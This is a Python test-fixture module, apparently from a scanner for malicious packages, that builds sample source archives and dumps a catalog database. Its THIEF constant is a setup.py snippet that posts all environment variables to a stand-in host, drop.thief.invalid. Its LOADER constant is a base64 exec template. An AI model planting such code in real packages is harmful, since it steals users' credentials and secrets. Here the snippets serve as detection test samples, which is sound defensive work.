"""Harmless sample sets, built in code, and a way to look at a whole catalog."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

from sqlalchemy import select

from antivenom.store import Store
from antivenom.store.describe import CATALOG
from antivenom.store.sealed import seal
from tests.builders.archives import make_tar, make_zip

PASSWORD = b"infected"

THIEF = """
import os, urllib.request
urllib.request.urlopen("https://drop.thief.invalid/in", data=str(os.environ).encode())
"""
LOADER = """
import base64
exec(base64.b64decode("{}"))
"""
PLAIN = "def add(a, b):\n    return a + b\n"


def sdist(name: str, setup: str, **files: str) -> bytes:
    """A tar.gz with a setup.py."""
    members = {
        f"{name}-1.0/setup.py": setup,
        f"{name}-1.0/PKG-INFO": f"Name: {name}\nVersion: 1.0\n",
    }
    return make_tar({**members, **{f"{name}-1.0/{k}": v for k, v in files.items()}})


def samples(count: int = 3) -> dict[str, bytes]:
    """Paths ``name/version/file`` with archives of different contents."""
    found = {}
    for n in range(count):
        text = THIEF.replace("thief", f"thief{n}")
        found[f"bad{n}/1.0/bad{n}-1.0.tar.gz"] = sdist(f"bad{n}", text)
    return found


def sealed_set(place: Path, members: Mapping[str, bytes]) -> Path:
    """An encrypted zip of samples."""
    place.write_bytes(seal(members, PASSWORD))
    return place


def listing(place: Path, rows: list[dict[str, str]]) -> Path:
    """A csv of rows."""
    names = sorted({name for row in rows for name in row})
    lines = [",".join(names), *(",".join(row.get(n, "") for n in names) for row in rows)]
    place.write_text("\n".join(lines) + "\n")
    return place


def dump(store: Store, *, without: tuple[str, ...] = ()) -> dict[str, list[dict[str, Any]]]:
    """Every row of every table of the catalog, in one order."""
    found = {}
    with store.reading() as connection:
        for table in CATALOG:
            if table.name not in without:
                rows = [dict(row) for row in connection.execute(select(table)).mappings()]
                found[table.name] = sorted(rows, key=repr)
    return found


__all__ = ["LOADER", "PASSWORD", "PLAIN", "THIEF", "dump", "listing", "make_zip", "samples",
           "sdist", "sealed_set"]  # fmt: skip
